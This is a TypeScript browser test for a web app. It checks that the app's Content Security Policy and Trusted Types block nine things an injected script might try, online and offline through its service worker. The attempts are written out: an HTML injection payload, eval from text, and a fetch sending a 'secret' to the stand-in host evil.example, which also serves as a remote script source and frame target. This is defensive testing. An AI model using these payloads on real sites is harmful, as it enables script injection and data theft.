// What a real browser refuses on our pages. That the app itself never asks for any of it, every other test of a browser
// shows: one violation fails it (tests/support/browser.ts).
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launchBrowser, newPhone, untilOffline, violationsSoFar } from "../support/browser.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** What a script that got into the page would try, each ending with what it came to. */
const probe = (page: Page) =>
  page.evaluate(async () => {
    const ran = () => (globalThis as { ran?: boolean }).ran === true;
    const attempts: Record<string, () => unknown> = {
      "markup from text": () => {
        document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>";
      },
      "another service worker": () => navigator.serviceWorker.register("/icon.svg"),
      "a policy of its own": () =>
        (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
          .createPolicy("default", { createHTML: (text: string) => text }),
      "the app’s policy once more": () =>
        (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes //
          .createPolicy("nexio", { createScriptURL: (text: string) => text }),
      // oxlint-disable-next-line typescript/no-implied-eval -- it is to be refused
      "code from text": () => new Function("globalThis.ran = true")(),
      "a script in the page": async () => {
        const script = document.createElement("script");
        script.append("globalThis.ran = true");
        document.body.append(script);
        if (!ran()) throw new Error("did not run");
      },
      "a script of another origin": () =>
        new Promise((resolve, reject) => {
          const frame = document.createElement("link");
          Object.assign(frame, {
            rel: "modulepreload",
            href: "https://evil.example/x.js",
            onload: resolve,
            onerror: reject,
          });
          document.head.append(frame);
        }),
      "words to another origin": () => fetch("https://evil.example/?secret"),
      "a frame": () =>
        new Promise((resolve, reject) => {
          const frame = document.createElement("iframe");
          addEventListener("securitypolicyviolation", reject, { once: true });
          Object.assign(frame, { src: "https://evil.example/", onload: resolve });
          document.body.append(frame);
        }),
    };
    const results: Record<string, string> = {};
    // Not from here: what the test's own tool evaluates may do more than a page.
    for (const [name, attempt] of Object.entries(attempts))
      results[name] = await new Promise<string>((resolve) =>
        // oxlint-disable-next-line typescript/no-misused-promises -- it settles the promise around it
        setTimeout(async () => {
          try {
            await attempt();
            resolve("done");
          } catch {
            resolve("refused");
          }
        }),
      );
    return results;
  });

const allRefused = expect.toSatisfy(
  (results: Record<string, string>) =>
    Object.keys(results).length === 9 && Object.values(results).every((one) => one === "refused"),
);

test("nine things that foreign script would try are refused, online and from the phone without a network", async () => {
  const context = await newPhone(browser);
  const page = await context.newPage();
  await page.goto("/settings");
  await page.locator("main").waitFor();
  await untilOffline(page);
  // The app itself, its service worker registered, did nothing of the kind.
  expect(violationsSoFar()).toEqual([]);
  expect(await probe(page)).toEqual(allRefused);
  // And the watch that every test relies on sees it.
  expect(violationsSoFar().length).toBeGreaterThanOrEqual(6);

  await context.setOffline(true);
  const kept = await page.goto("/settings");
  await page.locator("main").waitFor();
  expect(kept?.fromServiceWorker()).toBe(true);
  expect(kept?.headers()).toMatchObject({
    "content-security-policy": expect.stringContaining("require-trusted-types-for 'script'; trusted-types nexio;"),
    "cross-origin-opener-policy": "same-origin",
    "x-content-type-options": "nosniff",
  });
  expect(violationsSoFar()).toEqual([]);
  expect(await probe(page)).toEqual(allRefused);
  violationsSoFar();
  await context.close();
});
